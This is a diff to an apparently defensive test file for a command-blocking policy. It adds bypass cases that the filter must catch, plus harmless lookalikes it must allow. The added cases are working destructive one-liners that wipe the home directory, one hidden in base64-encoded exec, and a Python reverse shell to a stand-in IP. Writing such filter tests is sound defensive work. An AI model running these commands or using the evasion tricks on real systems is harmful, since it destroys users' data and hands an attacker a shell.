@@ -31,6 +31,13 @@ BYPASSES = [
     ("heredoc into a shell", "bash <<EOF\nrm -rf ~\nEOF", "vectimus-destruct-001"),
     ("here-string", "sh <<< 'rm -rf ~'", "vectimus-destruct-001"),
     ("python one-liner", "python3 -c \"import shutil; shutil.rmtree('/home/someone')\"", "vectimus-destruct-"),
+    ("python import alias", "python3 -c \"from shutil import rmtree as r; import os; r(os.environ['HOME'])\"",
+     "vectimus-destruct-001"),
+    ("python exec of decoded code",
+     "python3 -c \"import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiB+Jyk='))\"",
+     "vectimus-destruct-001"),
+    ("python reverse shell", "python3 -c 'import socket,subprocess;s=socket.create_connection((\"203.0.113.5\",4444));"
+     "subprocess.Popen([\"/bin/sh\",\"-i\"],stdin=s,stdout=s,stderr=s)'", "vectimus-codexec-002"),
     ("node one-liner", "node -e \"require('child_process').execSync('rm -rf ~')\"", "vectimus-destruct-001"),
     ("quote splitting", "r''m -rf ~", "vectimus-destruct-001"),
     ("escaped program", "\\rm -rf ~", "vectimus-destruct-001"),
@@ -59,6 +66,8 @@ LOOKALIKES = [
     "cat <<EOF > notes.txt\nrm -rf ~\nEOF",
     "printf 'git reset --hard' | wc -c",
     "command -v rm",
+    "python3 -c \"import shutil; [shutil.rmtree(d) for d in ('htmlcov', '.tox')]\"",
+    "python3 -c \"print('rm -rf ~')\"",
 ]
 
 
